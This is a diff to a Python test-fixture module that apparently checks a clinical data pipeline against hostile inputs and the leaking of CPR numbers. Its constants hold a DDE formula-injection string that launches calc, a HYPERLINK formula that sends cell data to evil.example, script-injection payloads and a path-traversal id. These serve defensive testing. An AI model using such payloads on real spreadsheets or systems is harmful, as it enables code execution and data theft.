@@ -21,7 +21,12 @@ FORMULA = "=cmd|' /C calc'!A0"
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1;"klik")'
 SCRIPT = "<script>alert(1)</script>"
 IMG = "<img src=x onerror=alert(1)>"
-EXTRACT_ID = "../../../tmp/evil-extract<script>alert(2)</script>"
+# Refused since issue 13 (extract_id: a short safe token): see test_issue13_attacks.py.
+PATH_LIKE_EXTRACT_ID = "../../../tmp/evil-extract<script>alert(2)</script>"
+# A well-formed id that holds a CPR number (issue 13, 3): pseudonymised wherever it is stored.
+EXTRACT_ID = "DMDB-1505702223"
+# The delivery folder's name holds a CPR number too (of a patient in the cpr column).
+DELIVERY_NAME = "DMDB-0807580128-hostile"
 
 # Department codes a delivery might carry: none of them may steer a path. Each gets a patient
 # with a deviation, so each gets its own deviation list and dashboard folder.
@@ -75,6 +80,10 @@ HOSTILE = {
         f"{FORMULA};L01AA01;y;1;mg;1",                      # orphan; record starts with a formula
     ],
 }
+# Whole files replaced: an extra header column whose name holds a CPR number (issue 13, 3).
+HOSTILE_REPLACE = {
+    "anthropometrics": ["cpr;measure_date;height_cm;weight_kg;pt1505702223", "1203614417;08-02-2025;181;86,5;x"],
+}
 MANIFEST = {"extract_id": EXTRACT_ID, "extracted_at": "2025-12-01"}
 
 
@@ -119,6 +128,48 @@ def duckdb_haystacks(database: Path) -> dict[str, str]:
     finally:
         con.close()
     return out
+
+
+def parquet_haystacks(folder: Path) -> dict[str, str]:
+    """Every column of every Parquet file, as text (the files themselves are compressed)."""
+    import polars as pl
+
+    out = {}
+    for path in sorted(folder.rglob("*.parquet")):
+        frame = pl.read_parquet(path)
+        for column in frame.columns:
+            out[f"parquet:{path.name}:{column}"] = "\n".join(map(str, frame[column].to_list()))
+    return out
+
+
+def run_haystacks(run) -> dict[str, str]:
+    """stdout, stderr, every file the run left (outputs, quality report, lock, blocked report),
+    every DuckDB table, every Dagster event and every file of the Dagster home."""
+    import dagster as dg
+    from dagster._serdes import serialize_value
+
+    hay = {"stdout": run.stdout, "stderr": run.stderr}
+    for path in sorted(run.out.parent.rglob("*")):
+        if path.is_file():
+            hay[str(path.relative_to(run.root))] = read_any(path)
+    hay.update(duckdb_haystacks(run.out / "audit.duckdb"))
+    hay.update(parquet_haystacks(run.out))
+    instance = dg.DagsterInstance.local_temp(str(run.dagster_home))
+    try:
+        records = instance.get_runs()
+        assert len(records) == 1, "the run was not recorded in the temporary Dagster instance"
+        for record in records:
+            hay[f"dagster run {record.run_id}"] = serialize_value(record)
+            events = instance.all_logs(record.run_id)
+            assert len(events) > 100, "expected the run's whole event log"
+            hay[f"dagster events {record.run_id}"] = "\n".join(serialize_value(e) for e in events)
+    finally:
+        instance.dispose()
+    for path in sorted(run.dagster_home.rglob("*")):
+        if path.is_file():
+            hay[f"DAGSTER_HOME/{path.relative_to(run.dagster_home)}"] = read_any(path)
+    return hay
+
 
 
 # --- spreadsheet cells ------------------------------------------------------------------
